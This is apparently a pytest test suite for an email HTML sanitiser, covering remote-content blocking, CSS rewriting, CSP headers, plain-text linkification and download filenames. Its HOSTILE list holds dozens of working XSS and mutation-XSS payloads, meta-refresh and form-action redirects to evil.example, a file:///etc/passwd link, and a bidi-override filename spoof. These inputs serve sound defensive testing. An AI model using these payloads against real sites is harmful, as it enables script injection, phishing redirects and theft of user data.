import re
import time
import unicodedata
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from api.message_service import content_disposition
from api.sanitize import (
    MAX_HTML_CHARS,
    InlineImage,
    SanitizedHtml,
    linkify_text,
    sanitize_html,
)

PNG = b"\x89PNG\r\n\x1a\nfake"


def clean(html: str, *, allow_remote: bool = False, images=None) -> SanitizedHtml:
    return sanitize_html(html, allow_remote=allow_remote, inline_images=images or {})


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


FORBIDDEN_TAGS = {
    *("script", "svg", "math", "form", "base", "iframe", "object", "embed", "input"),
    *("button", "textarea", "link", "frame", "frameset", "noscript", "template"),
    *("applet", "mglyph", "malignmark", "mtext", "xmp", "noembed", "select", "title"),
}
ALLOWED_META = {("charset", "utf-8"), ("name", "referrer")}


def assert_inert(result: SanitizedHtml) -> None:
    """Nothing in the document can run script, navigate by itself or submit."""
    doc = result.document
    lower = doc.lower()
    for needle in ("<script", "<svg", "<math", "<form", "<base", "http-equiv", "<iframe"):
        assert needle not in lower, needle
    assert "javascript:" not in lower and "vbscript:" not in lower
    assert "expression(" not in lower and "behavior" not in lower and "-moz-binding" not in lower
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", lower), "event handler attribute"
    collector = _Collector()
    collector.feed(doc)
    styles = 0
    for tag, attrs in collector.tags:
        assert tag not in FORBIDDEN_TAGS, tag
        if tag == "style":
            styles += 1
        if tag == "meta":
            assert set(attrs.items()) & ALLOWED_META and "http-equiv" not in attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"formaction", "action", "srcdoc", "xlink:href"}, name
            if name in {"href", "src", "background"}:
                scheme = value.split(":", 1)[0].lower() if ":" in value else ""
                assert scheme in {"", "http", "https", "mailto", "data"}, (tag, name, value)
                if scheme == "data":
                    assert value.startswith("data:image/png"), value
        if tag == "a" and "href" in attrs:
            assert attrs["target"] == "_blank" and attrs["rel"] == "noopener noreferrer"
    assert styles <= 2  # ours and the mail's, both in the head
    for css in collector.styles:
        assert "<" not in css and "@import" not in css.lower()
    assert_csp(result.csp)


def assert_csp(csp: str) -> None:
    directives = {d.split()[0]: d.split()[1:] for d in csp.split("; ")}
    assert directives["default-src"] == ["'none'"]
    assert "script-src" not in directives and "script-src-elem" not in directives
    assert directives["sandbox"] == ["allow-popups", "allow-popups-to-escape-sandbox"]
    assert directives["base-uri"] == ["'none'"] and directives["form-action"] == ["'none'"]
    assert "frame-ancestors" in directives


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src=x/onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
    "<a href=# onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>"></style></h1>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
    '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<META HTTP-EQUIV=Refresh CONTENT="0; URL=javascript:alert(1)">',
    '<base href="https://evil.example/"><a href="/login">x</a>',
    '<form action="https://evil.example/"><input name=p><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type=image src=x formaction="https://evil.example">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="width: expr\\65 ssion(alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(https://evil.example/x.xml#xss)">x</div>',
    '<div style="background: url(javascript:alert(1))">x</div>',
    "<div style=\"background-image: url('java\\73 cript:alert(1)')\">x</div>",
    '<div style="color:red;} body{background:url(https://evil.example/)">x</div>',
    "<style>@import 'https://evil.example/x.css'; a{color:red}</style>",
    "<style>@import url(javascript:alert(1));</style>",
    "<style>body{behavior:url(x.htc);-moz-binding:url(x.xml)}</style>",
    "<style>div{width:expression(alert(1))}</style>",
    "<style>a{background:url(javascript:alert(1))}</style>",
    "<style></style><script>alert(1)</script><style></style>",
    "<style>a{color:red}</style ><img src=x onerror=alert(1)>",
    "<style>a{content:'</style><script>alert(1)</script>'}</style>",
    "<style>a{content:'\\3c /style><script>alert(1)</script>'}</style>",
    "<style><!-- a{color:red} --></style>",
    "<style>a url(https://evil.example/) } b{color:red}</style>",
    '<STYLE type="text/css">x{}</STYLE><sCrIpT>alert(1)</ScRiPt>',
    "<style>unclosed { color: red; <img src=x onerror=alert(1)>",
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href="https://ok.example" target="_self" rel="opener">x</a>',
    '<div id="x" style="position:fixed">x</div><a href="#x">x</a>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<isindex action="javascript:alert(1)" type=image>',
    "<frameset onload=alert(1)>",
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="http://ok.example/"onmouseover="alert(1)">x</a>',
]


@pytest.mark.parametrize("allow_remote", [False, True])
@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_mail_leaves_nothing_that_runs(html: str, allow_remote: bool) -> None:
    assert_inert(clean(html, allow_remote=allow_remote))
    # The same inside a whole document, with a head.
    assert_inert(
        clean(f"<html><head>{html}</head><body>{html}</body></html>", allow_remote=allow_remote)
    )


def test_mxss_payload_does_not_come_back_as_markup() -> None:
    result = clean("<svg><style><img src=x onerror=alert(1)></style></svg>x")
    assert "<img" not in result.document and "onerror" not in result.document


def test_links_open_in_a_new_tab_and_keep_only_safe_schemes() -> None:
    doc = clean(
        '<a href="https://ok.example/a?b=1&amp;c=2">1</a><a href="mailto:a@b.example">2</a>'
        '<a href="ftp://x.example/">3</a><a href="#top">4</a><a href="/relative">5</a>'
    ).document
    assert 'href="https://ok.example/a?b=1&amp;c=2" target="_blank"' in doc
    assert 'href="mailto:a@b.example"' in doc
    assert "ftp:" not in doc and "/relative" not in doc and 'href="#top"' in doc
    assert doc.count('rel="noopener noreferrer"') == 5


def test_document_shell() -> None:
    result = clean("<p>hi</p>")
    assert result.document.startswith(
        '<!doctype html><html><head><meta charset="utf-8">'
        '<meta name="referrer" content="no-referrer"><style>'
    )
    assert result.document.endswith("<body><p>hi</p></body></html>")
    assert "max-width:100%" in result.document


NEWSLETTER = """<!DOCTYPE html><html><head>
<meta name="color-scheme" content="light dark">
<style type="text/css">
  body { margin: 0; font-family: Helvetica, Arial, sans-serif; }
  .button { background: #0a66c2 url('https://cdn.example/btn.png') no-repeat; }
  @media only screen and (max-width: 600px) { .col { width: 100% !important; } }
  @media (prefers-color-scheme: dark) { body { background: #111 !important; color: #eee; } }
  @font-face { font-family: Brand; src: url(https://cdn.example/brand.woff2) format("woff2"); }
</style></head>
<body>
<center>
<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff"
  style="border-collapse: collapse; margin: 0 auto">
  <tr><td class="col" align="center" valign="top" style="padding: 20px; color: #333333">
    <img src="https://cdn.example/hero.jpg" width="600" alt="Hero"
      srcset="https://cdn.example/hero.jpg 1x, https://cdn.example/hero@2x.jpg 2x">
    <font face="Georgia" color="#555555" size="2">Hello <b>reader</b></font>
    <a class="button" href="https://news.example/read?id=42&amp;utm=mail">Read more</a>
  </td></tr>
</table>
</center>
<img src="https://track.example/open.gif?u=1" width="1" height="1" alt="">
</body></html>"""


def test_newsletter_keeps_its_tables_and_styles() -> None:
    result = clean(NEWSLETTER)
    assert_inert(result)
    doc = result.document
    assert "<center>" in doc and "<table" in doc and 'cellpadding="0"' in doc
    assert 'bgcolor="#ffffff"' in doc and 'valign="top"' in doc
    assert "border-collapse:collapse" in doc and "padding:20px" in doc
    assert '<font face="Georgia" color="#555555" size="2">' in doc
    assert "@media only screen and (max-width: 600px)" in doc
    assert ".col{width:100% !important}" in doc
    assert "@media (prefers-color-scheme: dark)" in doc
    assert "https://cdn.example" not in doc and "track.example" not in doc
    assert "background:#0a66c2 no-repeat" in doc
    assert result.has_dark_mode
    # btn.png, brand.woff2, hero.jpg, the two srcset candidates, the tracking pixel.
    assert result.remote_blocked == 6


def test_newsletter_with_remote_content_allowed() -> None:
    result = clean(NEWSLETTER, allow_remote=True)
    assert_inert(result)
    doc = result.document
    assert 'src="https://cdn.example/hero.jpg"' in doc
    assert "hero@2x.jpg 2x" in doc and 'url("https://cdn.example/btn.png")' in doc
    assert result.remote_blocked == 6
    assert "img-src data: https: http:" in result.csp


def test_remote_resources_are_counted() -> None:
    html = (
        "<style>.a{background-image:url(https://r.example/bg.png)}</style>"
        '<img src="https://r.example/1.png"><img src="http://r.example/2.png">'
        '<img src="//r.example/3.png">'
        '<img srcset="https://r.example/4.png 1x, https://r.example/5.png 2x">'
    )
    for allow_remote in (False, True):
        assert clean(html, allow_remote=allow_remote).remote_blocked == 6
    blocked = clean(html).document
    assert "r.example" not in blocked
    allowed = clean(html, allow_remote=True).document
    assert 'src="https://r.example/3.png"' in allowed


def test_other_remote_references_are_counted() -> None:
    html = (
        "<style>@import url(https://r.example/x.css);</style>"
        '<table background="https://r.example/t.png"><tr><td '
        'style="background:url(https://r.example/td.png)">x</td></tr></table>'
        "<div style=\"list-style-image:url('https://r.example/li.png')\">y</div>"
    )
    result = clean(html)
    assert result.remote_blocked == 4
    assert "r.example" not in result.document


def test_remote_images_are_blocked_by_the_csp_too() -> None:
    csp = clean('<img src="https://r.example/1.png">').csp
    img_src = next(d for d in csp.split("; ") if d.startswith("img-src"))
    assert img_src == "img-src data:"
    assert "style-src 'unsafe-inline'" in csp
    assert "frame-ancestors 'self'" in csp


def test_frame_ancestors_takes_the_app_origin() -> None:
    result = sanitize_html(
        "x", allow_remote=False, inline_images={}, frame_ancestors="https://mail.example"
    )
    assert "frame-ancestors https://mail.example;" in result.csp
    injected = sanitize_html(
        "x", allow_remote=False, inline_images={}, frame_ancestors="* ; script-src *"
    )
    assert "script-src" not in injected.csp and "frame-ancestors 'self'" in injected.csp


def test_cid_images_are_inlined_by_content_id() -> None:
    images = {
        "<Logo@Mail.Example>": InlineImage("image/png", data=PNG),
        "banner@x": InlineImage("image/jpeg", url="https://files.example:8443/s/1?sig=abc&e=9"),
    }
    html = (
        '<img src="cid:logo@mail.example"><img src="CID:%3Clogo@MAIL.example%3E">'
        '<div style="background:url(cid:banner@x)">x</div>'
        '<img srcset="cid:banner@x 2x"><img src="cid:unknown@x" alt="gone">'
        '<a href="cid:logo@mail.example">no</a>'
    )
    result = clean(html, images=images)
    assert_inert(result)
    doc = result.document
    assert doc.count('src="data:image/png;base64,iVBORw0KGgpmYWtl"') == 2
    assert "url(&quot;https://files.example:8443/s/1?sig=abc&amp;e=9&quot;)" in doc
    assert 'srcset="https://files.example:8443/s/1?sig=abc&amp;e=9 2x"' in doc
    assert "cid:" not in doc.lower() and '<img alt="gone">' in doc
    assert result.remote_blocked == 0
    assert "img-src data: https://files.example:8443;" in result.csp


def test_svg_inline_images_and_odd_urls_are_refused() -> None:
    images = {
        "a": InlineImage("image/svg+xml", data=b"<svg onload=alert(1)>"),
        "b": InlineImage("image/png", url="javascript:alert(1)"),
        "c": InlineImage("image/png", url='https://x.example/"onerror=alert(1)'),
    }
    result = clean('<img src="cid:a"><img src="cid:b"><img src="cid:c">', images=images)
    assert_inert(result)
    assert result.document.count("<img>") == 3
    with pytest.raises(ValueError):
        InlineImage("image/png")


def test_cid_in_style_block() -> None:
    images = {"bg": InlineImage("image/gif", data=b"GIF89a")}
    result = clean("<style>body{background:url('cid:bg')}</style>", images=images)
    assert 'body{background:url("data:image/gif;base64,R0lGODlh")}' in result.document


def test_dark_mode_declarations() -> None:
    assert clean('<meta name="supported-color-schemes" content="light dark">').has_dark_mode
    assert clean("<style>:root{color-scheme:light dark}</style>").has_dark_mode
    assert clean("<style>@media (prefers-color-scheme:dark){a{color:#fff}}</style>").has_dark_mode
    assert not clean('<meta name="color-scheme" content="light"><p>x</p>').has_dark_mode
    assert not clean("<style>@media print{a{color:#000}}</style>").has_dark_mode


def test_css_is_rewritten_not_passed_through() -> None:
    doc = clean(
        "<style>@namespace x url(http://x);@charset 'utf-8';"
        "a{color:red;width:expression(1);background:url(https://r.example/a.png)}"
        "@supports (display:grid){@media screen{.g{display:grid}}}</style>"
    ).document
    assert "a{color:red}" in doc
    assert "@supports (display:grid){@media screen{.g{display:grid}}}" in doc
    assert "@namespace" not in doc and "@charset" not in doc


def test_styles_in_the_body_move_to_the_head() -> None:
    doc = clean("<p>a</p><style>p{color:red}</style><p>b</p>").document
    head, body = doc.split("</head>")
    assert "p{color:red}" in head and "<style" not in body


def test_oversized_and_deeply_nested_input_is_cut_quickly() -> None:
    start = time.monotonic()
    big = clean("<p>" + "x" * (MAX_HTML_CHARS + 10) + "</p>")
    assert big.truncated
    deep = clean("<div>" * 200_000 + "x")
    assert deep.truncated and deep.document.count("<div>") <= 512
    clean("<span><marquee></span></marquee>" * 60_000)
    for pattern in ("<table><tr><td>", "<p><div>", "<li><ul>", "<b><i><td><p>"):
        result = clean(pattern * 100_000)
        assert result.truncated and result.document.count("<") < 8 * 512
    clean("<a " * 300_000)
    clean("<style>a{b:" + "(" * 100_000 + "}</style>")
    clean('<div style="' + "(" * 100_000 + '">x</div>')
    assert time.monotonic() - start < 20


def test_nesting_bound_leaves_ordinary_mail_alone() -> None:
    html = "<table>" + "<tr><td><p>x<li>y" * 2000 + "</table>"
    assert not clean(html).truncated


# ----------------------------------------------------------------- plain text


def test_text_is_escaped_and_keeps_line_breaks() -> None:
    out = linkify_text("<script>alert(1)</script>\r\nline 2 & more\n\n  indented")
    assert out.startswith("<pre") and out.endswith("</pre>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;\nline 2 &amp; more\n\n  indented" in out
    assert "<script" not in out and "white-space:pre-wrap" in out


@pytest.mark.parametrize(
    ("text", "href", "label"),
    [
        (
            "Confirm: https://id.example/verify?token=AbC-123_x&user=9%40x#done.",
            "https://id.example/verify?token=AbC-123_x&amp;user=9%40x#done",
            "https://id.example/verify?token=AbC-123_x&amp;user=9%40x#done",
        ),
        ("(see https://x.example/a)", "https://x.example/a", "https://x.example/a"),
        (
            "wiki https://en.example/Foo_(bar), ok",
            "https://en.example/Foo_(bar)",
            "https://en.example/Foo_(bar)",
        ),
        ("go to www.example.com!", "https://www.example.com", "www.example.com"),
        ('"http://q.example/x?y=1"', "http://q.example/x?y=1", "http://q.example/x?y=1"),
        ("<https://angle.example/p>", "https://angle.example/p", "https://angle.example/p"),
    ],
)
def test_links_in_text(text: str, href: str, label: str) -> None:
    out = linkify_text(text)
    assert f'<a href="{href}" target="_blank" rel="noopener noreferrer">{label}</a>' in out


def test_long_verification_link_in_text() -> None:
    url = "https://auth.example/magic?code=" + "a1B2" * 600 + "&next=%2Fhome"
    out = linkify_text(f"Sign in:\n{url}\nThanks")
    assert f'href="{url.replace("&", "&amp;")}"' in out
    assert out.count("<a ") == 1


def test_text_links_never_carry_markup() -> None:
    out = linkify_text('https://x.example/"><img src=x onerror=alert(1)> javascript:alert(1)')
    assert "<img" not in out and 'href="https://x.example/"' in out
    assert out.count("<a ") == 1
    assert linkify_text("http:// and https:// alone").count("<a ") == 0


@pytest.mark.parametrize(
    "css",
    [
        ':root{--u:"https://evil.example/v"}.a{background-image:image-set(var(--u) 1x)}',
        ':root{--u:"https://evil.example/v"}.a{background:-webkit-image-set(var(--u) 1x)}',
        ".a{background-image:image-set(attr(title) 1x)}",
        ".a{list-style-image:image(env(safe-area-inset-top))}",
        ".a{background:cross-fade(var(--u), url(data:image/png;base64,AA) 50%)}",
    ],
)
def test_image_functions_take_no_url_from_var_or_attr(css: str) -> None:
    """``image-set(var(--u))`` loads a URL the sanitiser never saw (found in Chromium by
    tests/web/test_hostile.py: with remote content blocked, a frame whose CSP allowed
    our origin for a linked inline image requested a URL of the mail's choosing there)."""
    for html in (f"<style>{css}</style>", f'<div title="x" style="{css.split("{")[-1][:-1]}">'):
        document = clean(html).document.replace("-webkit-", "")
        for word in ("image-set(var", "image-set(attr", "image(env", "cross-fade(var"):
            assert word not in document, word


def test_image_set_keeps_its_own_arguments() -> None:
    doc = clean(
        '<style>.a{background-image:image-set("data:image/png;base64,AA" 1x type("image/png"))}'
        "</style>"
    ).document
    assert 'image-set(url("data:image/png;base64,AA") 1x type("image/png"))' in doc


@pytest.mark.parametrize(
    "filename",
    ["report\u202efdp.exe", "a\u2066b\u2069c.txt", "zero\u200bwidth\u200f.txt", "c1\x85.txt"],
)
def test_download_names_carry_no_invisible_characters(filename: str) -> None:
    """A bidi override in a served file name makes ``report<RLO>fdp.exe`` look like
    ``reportexe.pdf`` wherever the name is shown or saved as sent (Chromium replaces it;
    other clients do not)."""
    value = content_disposition(filename, "attachment")
    encoded = value.partition("filename*=UTF-8''")[2]
    for name in (value.split('"')[1], unquote(encoded)):
        assert not any(unicodedata.category(c) in {"Cc", "Cf"} for c in name), name
    assert value.startswith('attachment; filename="')


def test_a_style_elements_media_attribute_is_kept_as_its_media_rule() -> None:
    html = (
        '<style media="(prefers-color-scheme: dark)">p { color: #eee }</style>'
        "<style media='print'>p { color: black }</style>"
        "<style media=all>b { color: red }</style><p>hi <b>x</b></p>"
    )
    result = sanitize_html(html, allow_remote=False, inline_images={})
    css = re.sub(r"\s+", "", result.document)
    assert "@media(prefers-color-scheme:dark){p{color:#eee}}" in css
    assert "@mediaprint{p{color:black}}" in css
    assert "b{color:red}" in css and "@mediaall" not in css
    assert result.has_dark_mode
    # A media condition is CSS like any other: one that hides a url() gets no pass.
    hostile = '<style media="screen{} body{background:url(https://t.example/x)}">p{}</style>'
    cleaned = sanitize_html(hostile, allow_remote=False, inline_images={})
    assert "t.example" not in cleaned.document
